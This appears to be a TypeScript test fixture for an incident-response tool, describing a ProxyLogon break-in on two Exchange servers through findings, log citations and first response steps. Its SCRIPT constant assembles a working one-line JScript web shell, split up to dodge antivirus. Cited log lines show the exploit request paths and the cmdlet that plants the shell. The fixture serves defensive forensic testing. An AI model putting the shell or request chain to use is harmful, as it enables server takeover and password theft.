import type { Assessment, Finding, ServerAssessment } from "../../model/index.ts";
import {
  assessmentOf,
  citationOf,
  coverageOf,
  cveOf,
  evidenceOf,
  findingOf,
  hashOf,
  patchOf,
  serverOf,
  sourceOf,
} from "./build.ts";

const FRONT =
  "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Logging\\HttpProxy\\Ecp\\HttpProxy_2021030309-1.LOG";
const ECP =
  "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Logging\\ECP\\Server\\ECPServer20210303-1.LOG";
const IIS = "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex210303.log";
const SHELL = "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\ogu3zrnt.aspx";
const SHELL_2 =
  "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\Current\\themes\\resources\\errorFE.aspx";
const INTRUDER = "198.51.100.27";
// In pieces: antivirus programs delete files that hold the whole line.
const SCRIPT = [
  "<scr",
  'ipt language="JSc',
  'ript" runat="ser',
  'ver">function Page_Load(){ev',
  "al(Req",
  'uest["k"],"uns',
  'afe");}</scr',
  "ipt>",
].join("");

const FINDINGS: readonly Finding[] = [
  findingOf({
    id: "F1",
    server: "S2",
    kind: "lsass-dump",
    title: "The passwords in memory were written to a file and fetched through the web",
    severity: "critical",
    rung: "L4",
    firstSeen: "2021-03-05T02:31:09.000Z",
    lastSeen: "2021-03-05T02:44:50.000Z",
    count: 3,
    attack: ["T1003.001", "T1560.001"],
    rules: ["proxylogon/lsass-dump-file", "proxylogon/dump-fetched"],
    entities: {
      addresses: [INTRUDER],
      files: ["C:\\inetpub\\wwwroot\\aspnet_client\\compressionmemory.gif"],
      hashes: [hashOf("d")],
    },
    citations: [
      citationOf(
        IIS,
        40211,
        `2021-03-05 02:44:50 10.20.0.12 GET /aspnet_client/compressionmemory.gif - 443 - ${INTRUDER} Mozilla/5.0 - 200 0 0 41250`,
        "2021-03-05T02:44:50.000Z",
      ),
    ],
    why: "A picture file in a web folder holds a Windows cabinet with a memory dump, and the intruder's address fetched it whole (HTTP 200, 38 MB).",
    doubt: "The size in the log counts what was sent; the intruder may have broken off the transfer.",
    next: "Treat every password used on this server since 3 March as known to the intruder. Change them after the clean-up, not before.",
  }),
  findingOf({
    id: "F2",
    server: "S2",
    kind: "web-shell-used",
    title: "A back-door page was called 41 times and answered",
    severity: "critical",
    rung: "L3",
    firstSeen: "2021-03-03T09:21:02.000Z",
    lastSeen: "2021-03-05T02:40:11.000Z",
    count: 41,
    attack: ["T1505.003", "T1059.003"],
    cves: ["CVE-2021-27065"],
    entities: { addresses: [INTRUDER, "203.0.113.80"], files: [SHELL], userAgents: ["antSword/v2.1"] },
    citations: [
      citationOf(
        IIS,
        20117,
        `2021-03-03 09:21:02 10.20.0.12 POST /aspnet_client/system_web/ogu3zrnt.aspx - 443 - ${INTRUDER} antSword/v2.1 - 200 0 0 312`,
        "2021-03-03T09:21:02.000Z",
      ),
      citationOf(
        IIS,
        20164,
        `2021-03-03 09:24:40 10.20.0.12 POST /aspnet_client/system_web/ogu3zrnt.aspx - 443 - ${INTRUDER} antSword/v2.1 - 200 0 0 1288`,
        "2021-03-03T09:24:40.000Z",
      ),
    ],
    why: "The page is no part of Exchange, it was called by POST, and it answered with status 200 after running for up to 1.3 seconds.",
    doubt: "Status 200 says that the page answered, not which command it ran.",
    next: "Look for programs started by the web server at these times in the Security log and in Sysmon.",
  }),
  findingOf({
    id: "F3",
    server: "S2",
    title: "Back-door page in a web folder",
    severity: "critical",
    rung: "L2",
    firstSeen: "2021-03-03T09:14:30.000Z",
    lastSeen: "2021-03-12T17:40:00.000Z",
    attack: ["T1505.003"],
    cves: ["CVE-2021-27065"],
    rules: ["proxylogon/oab-dump-file", "webshells/eval-of-request"],
    entities: { files: [SHELL], hashes: [hashOf("e")] },
    citations: [citationOf(SHELL, 12, `ExternalUrl                     : http://f/${SCRIPT}`)],
    why: "The file is a text dump of an address-book folder's settings whose external URL holds a script that runs whatever it is sent.",
    doubt: "None that we know of: Exchange never writes such a file there.",
    next: "Copy it with its hash, then move it out of the web folder. `postern clean plan` does both and can undo it.",
  }),
  findingOf({
    id: "F4",
    server: "S2",
    title: "Back-door page beside the pictures of the logon page",
    severity: "critical",
    rung: "L2",
    entities: { files: [SHELL_2], hashes: [hashOf("f")] },
    citations: [citationOf(SHELL_2, 1, `<%@ Page Language="C#" %> ...`)],
  }),
  findingOf({
    id: "F5",
    server: "S2",
    kind: "vdir-script-url",
    title: "A script was planted in the address of the offline address book",
    rung: "L2",
    firstSeen: "2021-03-03T09:14:12.000Z",
    lastSeen: "2021-03-03T09:14:12.000Z",
    cves: ["CVE-2021-27065"],
    entities: { users: ["riverside.example\\administrator"], cmdlets: ["Set-OabVirtualDirectory"] },
    citations: [
      citationOf(
        ECP,
        318,
        `2021-03-03T09:14:12.201Z,MX02,ECP.Request,S:TIME=188;S:SID=8b1c;S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/${SCRIPT}'.Identity='5f2e'`,
        "2021-03-03T09:14:12.201Z",
      ),
    ],
    why: "The command sets an external URL that is no URL but a script. `S:EX` is empty: Exchange accepted it.",
  }),
  findingOf({
    id: "F6",
    server: "S2",
    kind: "vdir-reset",
    title: "The virtual directory was reset, which writes the planted text to a file",
    rung: "L2",
    firstSeen: "2021-03-03T09:14:30.000Z",
    cves: ["CVE-2021-27065"],
    entities: { addresses: [INTRUDER] },
    citations: [
      citationOf(
        FRONT,
        911,
        `2021-03-03T09:14:30.114Z,77c0,15,1,2106,2,,Ecp,mail.riverside.example,/ecp/y.js,,,,,,,${INTRUDER},MX01,200,200,,POST,Proxy,mx02.riverside.local,,ServerInfo~a]@MX02.riverside.local:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory#`,
        "2021-03-03T09:14:30.114Z",
      ),
    ],
  }),
  findingOf({
    id: "F7",
    kind: "ssrf-session",
    title: "A stranger was given an administrator's session",
    severity: "critical",
    rung: "L1",
    firstSeen: "2021-03-03T09:12:44.000Z",
    cves: ["CVE-2021-26855"],
    entities: { addresses: [INTRUDER], urls: ["/ecp/y.js"], userAgents: ["ExchangeServicesClient/0.0.0.0"] },
    citations: [
      citationOf(
        FRONT,
        874,
        `2021-03-03T09:12:44.310Z,51aa,15,1,2106,2,,Ecp,mail.riverside.example,/ecp/y.js,,,,,,,${INTRUDER},MX01,241,241,,POST,Proxy,mx02.riverside.local,,ServerInfo~a]@MX02.riverside.local:444/ecp/proxyLogon.ecp?#`,
        "2021-03-03T09:12:44.310Z",
      ),
    ],
    why: "An unauthenticated request was passed to the back end and answered with status 241, which only a new session gives.",
    next: "Count everything from this minute on as seen by the intruder.",
  }),
  findingOf({
    id: "F8",
    kind: "ssrf-ews",
    title: "Mail was asked for through the same hole",
    rung: "L1",
    firstSeen: "2021-03-03T09:40:00.000Z",
    lastSeen: "2021-03-03T10:02:00.000Z",
    count: 212,
    cves: ["CVE-2021-26855"],
  }),
  findingOf({
    id: "F9",
    kind: "ssrf-autodiscover",
    title: "Probes that asked for a valid address",
    severity: "low",
    confidence: "medium",
    rung: "L0",
    firstSeen: "2021-02-27T22:05:10.000Z",
    lastSeen: "2021-03-03T09:12:01.000Z",
    count: 63,
    cves: ["CVE-2021-26855"],
    entities: { addresses: [INTRUDER, "192.0.2.144"] },
  }),
  findingOf({
    id: "F10",
    kind: "scanner",
    title: "Scans by a vendor",
    severity: "info",
    confidence: "medium",
    rung: "L0",
    count: 18,
  }),
  findingOf({
    id: "F11",
    kind: "shell-names",
    title: "Somebody guessed names of back doors and found none",
    severity: "low",
    rung: "L0",
    count: 144,
  }),
  findingOf({
    id: "F12",
    server: "S2",
    kind: "quarantined-file",
    title: "A back-door file lies in the antivirus quarantine",
    severity: "medium",
    confidence: "medium",
  }),
];

const DAYS = { from: "2021-02-05", states: "" };

function sources(front: boolean): ServerAssessment["coverage"]["sources"] {
  const days = (states: string): { readonly from: string; readonly states: string } => ({ ...DAYS, states });
  return [
    sourceOf(
      "httpproxy/Ecp",
      "HttpProxy logs of ECP",
      days(front ? "mmmmmmmmmmpppppppppppppptppppppppppp" : "m".repeat(36)),
      {
        retention: "Exchange keeps these about 30 days. Nothing here could show January.",
        ...(front ? { damaged: 2 } : {}),
      },
    ),
    sourceOf("iis-front-end", "IIS logs of the front end", days("pppppppppppppppppppppttppppppppppppp")),
    sourceOf(
      "ecp-server",
      "ECP server logs",
      days(front ? "m".repeat(36) : "mmmmmmmmmmmmmmmmppppppppmmmmpppppppp"),
      { retention: "Exchange keeps these about 30 days." },
    ),
    sourceOf("windows-events/Security", "Windows events: Security", days("m".repeat(31) + "ppppp"), {
      retention: "This log is a ring: it held five days.",
    }),
    sourceOf("web-folders", "Web folders", null, { items: front ? 0 : 1204, records: front ? 0 : 1204 }),
  ];
}

const SERVERS: readonly ServerAssessment[] = [
  serverOf({
    id: "S1",
    name: "MX01",
    verdict: "compromised",
    addresses: ["10.20.0.11"],
    build: "15.1.2106.2",
    builds: [
      {
        build: "15.1.2106.2",
        name: "Exchange 2016 CU18",
        first: "2021-02-15T00:00:02.000Z",
        last: "2021-03-09T21:10:00.000Z",
        source: "#Version header of HttpProxy logs",
      },
      {
        build: "15.1.2106.13",
        name: "Exchange 2016 CU18 Mar21SU",
        first: "2021-03-09T22:31:00.000Z",
        last: "2021-03-12T17:40:00.000Z",
        source: "#Version header of HttpProxy logs",
      },
    ],
    patch: patchOf({
      level: "fixed",
      build: "15.1.2106.13",
      support: "out",
      mitigations: [],
      configurationNeeded: ["Extended Protection"],
      lacks: ["CVE-2021-34473", "CVE-2021-34523", "CVE-2021-31207"],
      next: "Exchange 2016 gets no more updates: move to Exchange SE.",
      summary:
        "The server was on 15.1.2106.2 until 9 March 2021 and was exploited on the 3rd, six days before the update.",
    }),
    hybrid: { state: "no", note: "No hybrid endpoint was called." },
    summary:
      "Requests from 198.51.100.27 were passed to the back end of MX02 with an administrator's session.",
    cves: {
      "CVE-2021-26855": cveOf({
        verdict: "compromised",
        rung: "L1",
        findings: ["F7", "F8", "F9"],
        why: "The server passed a stranger's requests to the back end and a session was opened. Access was possible; nothing is proven to be left behind on this server.",
      }),
      "CVE-2021-26857": cveOf({
        verdict: "cannot-tell",
        why: "The Application log is missing for the days on which this flaw was used.",
        missing: [
          "Windows events: Application, 26 February to 9 March 2021",
          "A memory dump or the crash reports under C:\\ProgramData\\Microsoft\\Windows\\WER could still answer.",
        ],
      }),
      "CVE-2021-26858": cveOf({
        verdict: "no-trace",
        why: "The address-book logs of all days show only ordinary paths.",
      }),
      "CVE-2021-27065": cveOf({
        verdict: "attempted",
        rung: "L0",
        findings: ["F6"],
        why: "The reset was sent through this server; the file was written on MX02.",
      }),
    },
    coverage: coverageOf({
      first: "2021-02-05T00:00:02.000Z",
      last: "2021-03-12T17:40:00.000Z",
      sources: sources(true),
      gaps: [
        {
          source: "iis-front-end",
          from: "2021-02-26T04:00:00.000Z",
          to: "2021-02-27T19:00:00.000Z",
          note: "Other logs of the server go on: the log was cleared or logging was off.",
        },
      ],
      notSeen: [
        "The Application log from 26 February to 9 March is missing: a break-in through Unified Messaging could not be seen.",
        "HttpProxy logs before 15 February are gone: what was done in January cannot be seen.",
      ],
    }),
  }),
  serverOf({
    id: "S2",
    name: "MX02",
    verdict: "compromised",
    addresses: ["10.20.0.12", "fd00:20::12"],
    builds: [
      {
        build: "15.1.2106.2",
        name: "Exchange 2016 CU18",
        first: "2021-02-21T00:00:02.000Z",
        last: "2021-03-12T17:40:00.000Z",
        source: "ECP server logs",
      },
    ],
    patch: patchOf({
      level: "not-fixed",
      build: "15.1.2106.2",
      support: "out",
      lacks: ["CVE-2021-26855", "CVE-2021-27065"],
      next: "Install the newest update, from an elevated prompt.",
      summary: "The server is still on 15.1.2106.2, which is open to all four flaws.",
    }),
    summary:
      "Two back doors were placed on 3 March, one was used until 5 March, and passwords left the server.",
    cves: {
      "CVE-2021-27065": cveOf({
        verdict: "compromised",
        rung: "L2",
        findings: ["F3", "F5", "F6"],
        why: "A script was planted and written to a page that can be called.",
      }),
    },
    coverage: coverageOf({
      first: "2021-02-05T00:00:02.000Z",
      last: "2021-03-12T17:40:00.000Z",
      sources: sources(false),
      notSeen: [
        "HttpProxy logs are missing altogether: which requests came in on this server itself cannot be seen.",
      ],
    }),
  }),
];

/** Two servers, twelve findings, the whole chain up to stolen passwords. */
export function compromised(): Assessment {
  return assessmentOf({
    verdict: "compromised",
    summary:
      "Somebody broke in on 3 March 2021 through MX01, left two back doors on MX02 and took passwords on 5 March.",
    firstSteps: [
      {
        title: "Cut MX01 and MX02 off from the internet",
        detail:
          "Block ports 80 and 443 from outside at the firewall, and everything from the two servers to outside except mail.",
        cost: "10 minutes. Mail on port 25 goes on; phones and webmail stop. Undo: remove the rule.",
        findings: ["F2"],
      },
      {
        title: "Save the evidence",
        detail:
          "Copy both servers' logs, the web folders and, if they are virtual, a snapshot with memory to a disk that neither server can write.",
        cost: "1 to 3 hours. Mail goes on.",
        findings: [],
      },
      {
        title: "Call for help and start the clock",
        detail:
          "Tell your management and the person who answers for data protection today. Passwords left the server: many laws give 72 hours.",
        cost: "",
        findings: ["F1"],
      },
    ],
    servers: SERVERS,
    findings: FINDINGS,
    story: [
      {
        time: "2021-02-27T22:05:10.000Z",
        server: "S1",
        rung: "L0",
        text: "192.0.2.144 asks for a valid mail address and is refused.",
        finding: "F9",
        actor: "A2",
      },
      {
        time: "2021-03-03T09:12:44.000Z",
        server: "S1",
        rung: "L1",
        text: "198.51.100.27 is given an administrator's session.",
        finding: "F7",
        actor: "A1",
      },
      {
        time: "2021-03-03T09:14:12.000Z",
        server: "S2",
        rung: "L2",
        text: "It plants a script in the settings of the offline address book.",
        finding: "F5",
        actor: "A1",
      },
      {
        time: "2021-03-03T09:14:30.000Z",
        server: "S2",
        rung: "L2",
        text: "A reset writes the script to ogu3zrnt.aspx.",
        finding: "F6",
        actor: "A1",
      },
      {
        time: "2021-03-03T09:21:02.000Z",
        server: "S2",
        rung: "L3",
        text: "The page is called and answers.",
        finding: "F2",
        actor: "A1",
      },
      {
        time: "2021-03-05T02:44:50.000Z",
        server: "S2",
        rung: "L4",
        text: "A packed memory dump is fetched: passwords are gone.",
        finding: "F1",
        actor: "A1",
      },
      {
        time: "2021-03-11T06:00:00.000Z",
        server: "S2",
        rung: null,
        text: "Antivirus moves a second copy of the page to quarantine.",
        finding: "F12",
        actor: null,
      },
    ],
    actors: [
      {
        id: "A1",
        addresses: [INTRUDER, "203.0.113.80"],
        userAgents: ["ExchangeServicesClient/0.0.0.0", "antSword/v2.1"],
        firstSeen: "2021-03-03T09:12:01.000Z",
        lastSeen: "2021-03-05T02:44:50.000Z",
        rung: "L4",
        requests: 318,
        findings: ["F1", "F2", "F5", "F6", "F7", "F8"],
        notes: [
          "joined by session and canary",
          "203.0.113.80 is listed as a source of exploitation, medium confidence",
        ],
      },
      {
        id: "A2",
        addresses: ["192.0.2.144"],
        userAgents: ["python-requests/2.25.1"],
        firstSeen: "2021-02-27T22:05:10.000Z",
        lastSeen: "2021-02-27T22:06:00.000Z",
        rung: "L0",
        requests: 12,
        findings: ["F9"],
        notes: ["known scanner"],
      },
    ],
    mailboxes: [
      {
        mailbox: "superintendent@riverside.example",
        actedAs: "MX01$",
        how: "EWS GetItem through the hole in the front end",
        firstSeen: "2021-03-03T09:40:00.000Z",
        lastSeen: "2021-03-03T10:02:00.000Z",
        protocol: "EWS",
        requests: 212,
        bytesUpTo: 48_120_332,
        confidence: "likely",
        citations: [citationOf(FRONT, 1022, "x")],
        missing: "The EWS log of MX02 would say which messages.",
      },
    ],
    damage: {
      total: 3,
      kinds: [
        {
          code: "TEXT_LINE_CUT",
          count: 1,
          lost: "record",
          path: FRONT,
          note: "The last line ends in the middle: the log was copied while it was written.",
        },
        {
          code: "TEXT_NUL_BYTES",
          count: 2,
          lost: "rest",
          path: IIS,
          note: "The file ends in zero bytes, as after a power cut.",
        },
      ],
    },
    evidence: [
      evidenceOf({
        path: FRONT,
        origin: "E:\\evidence\\mx01.zip!HttpProxy/Ecp/HttpProxy_2021030309-1.LOG",
        damaged: 1,
      }),
      evidenceOf({
        path: IIS,
        artifact: "iis-w3c",
        server: "S2",
        records: 402_113,
        sizeBytes: 81_223_004,
        damaged: 2,
      }),
      evidenceOf({ path: ECP, artifact: "exchange-ecp", server: "S2", records: 3120 }),
      evidenceOf({
        path: SHELL,
        artifact: "web-file",
        server: "S2",
        records: 1,
        sizeBytes: 2188,
        first: null,
        last: null,
      }),
      evidenceOf({
        path: "notes.docx",
        artifact: "unknown",
        server: null,
        records: 0,
        first: null,
        last: null,
        state: "not-understood",
        note: "No artifact that Postern knows.",
      }),
    ],
  });
}
